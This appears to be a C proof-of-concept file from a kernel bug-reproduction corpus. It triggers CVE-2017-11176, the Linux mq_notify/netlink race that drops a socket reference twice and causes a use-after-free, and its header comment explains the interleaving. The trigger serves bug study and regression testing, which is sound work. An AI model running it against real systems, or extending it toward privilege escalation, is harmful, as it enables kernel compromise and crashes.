// SPDX-License-Identifier: GPL-2.0
/*
 * CVE-2017-11176 trigger, written for krr's bug corpus from the fix (f991af3daabaecff) and its
 * published analysis: mq_notify(SIGEV_THREAD) attaches its notification to a netlink socket
 * whose receive queue is full, so the calling thread sleeps in netlink_attachskb(). Meanwhile a
 * second thread closes that descriptor (a dup keeps the socket open) and wakes the sleeper. The
 * retry finds the descriptor gone and the error path drops the socket reference a second time;
 * closing the dup then releases a socket whose count is already spent. The two threads
 * interleave at the sleep.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <mqueue.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SOL_NETLINK
#define SOL_NETLINK 270
#endif
#define PORT 0x4b5252	/* the receiving socket's netlink port id */

static int target, spare;

/* The second thread: once the first sleeps, close its descriptor and wake it. */
static void *closer(void *unused)
{
	int one = 1;

	(void)unused;
	usleep(100000);
	close(target);
	if (setsockopt(spare, SOL_NETLINK, NETLINK_NO_ENOBUFS, &one, sizeof(one)) < 0)
		perror("NETLINK_NO_ENOBUFS");
	return NULL;
}

int main(void)
{
	struct sockaddr_nl addr = { .nl_family = AF_NETLINK, .nl_pid = PORT };
	struct sigevent sev;
	char cookie[32] = "krr", msg[1024];
	int rcvbuf = 0, sender, i;
	pthread_t thread;
	mqd_t mq;

	mq = mq_open("/krr-bug", O_RDWR | O_CREAT, 0600, NULL);
	target = socket(AF_NETLINK, SOCK_DGRAM, NETLINK_USERSOCK);
	sender = socket(AF_NETLINK, SOCK_DGRAM, NETLINK_USERSOCK);
	if (mq < 0 || target < 0 || sender < 0) {
		perror("mq_open / netlink socket");
		return 1;
	}
	if (bind(target, (struct sockaddr *)&addr, sizeof(addr)) < 0 ||
	    setsockopt(target, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof(rcvbuf)) < 0) {
		perror("bind / SO_RCVBUF");
		return 1;
	}
	/* Fill the receive queue so that attaching the notification has to wait. */
	memset(msg, 'k', sizeof(msg));
	for (i = 0; i < 1000; i++)
		if (sendto(sender, msg, sizeof(msg), MSG_DONTWAIT, (struct sockaddr *)&addr,
			   sizeof(addr)) < 0)
			break;
	if (i == 1000 || errno != EAGAIN) {
		perror("filling the netlink socket");
		return 1;
	}
	spare = dup(target);
	pthread_create(&thread, NULL, closer, NULL);

	memset(&sev, 0, sizeof(sev));
	sev.sigev_notify = SIGEV_THREAD;
	sev.sigev_signo = target;
	sev.sigev_value.sival_ptr = cookie;
	/* The raw system call: glibc's mq_notify() runs its own helper thread for SIGEV_THREAD. */
	if (syscall(SYS_mq_notify, mq, &sev) < 0)
		printf("mq_notify: %s\n", strerror(errno));
	pthread_join(thread, NULL);
	close(spare);	/* releases the socket whose reference mq_notify() dropped twice */
	usleep(100000);
	printf("no report: the kernel is not vulnerable (or the threads did not interleave)\n");
	return 0;
}
